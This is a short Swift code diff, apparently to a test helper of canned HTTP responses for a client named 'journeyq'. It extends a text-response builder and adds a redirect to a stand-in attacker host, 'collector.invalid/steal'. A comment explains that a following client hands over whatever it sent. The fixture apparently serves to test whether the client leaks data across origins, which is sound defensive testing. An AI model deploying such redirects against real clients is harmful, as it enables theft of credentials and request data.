@@ -12,8 +12,15 @@ enum HTTPAnswers {
         return Response(status: .init(code: status), headers: fields, body: .init(byteBuffer: ByteBuffer(bytes: data)))
     }
 
-    static func text(_ status: Int, _ text: String, contentType: String = "text/plain; charset=utf-8") -> Response {
-        Response(status: .init(code: status), headers: [.contentType: contentType], body: .init(byteBuffer: ByteBuffer(string: text)))
+    static func text(_ status: Int, _ text: String, contentType: String = "text/plain; charset=utf-8", headers: HTTPFields = [:]) -> Response {
+        var fields = headers
+        fields[.contentType] = contentType
+        return Response(status: .init(code: status), headers: fields, body: .init(byteBuffer: ByteBuffer(string: text)))
+    }
+
+    /// A redirect to another origin: a client that follows it hands over whatever it sent here.
+    static var redirect: Response {
+        Response(status: .temporaryRedirect, headers: [.location: "http://collector.invalid/steal?from=journeyq"])
     }
 
     static func empty(_ status: Int) -> Response {
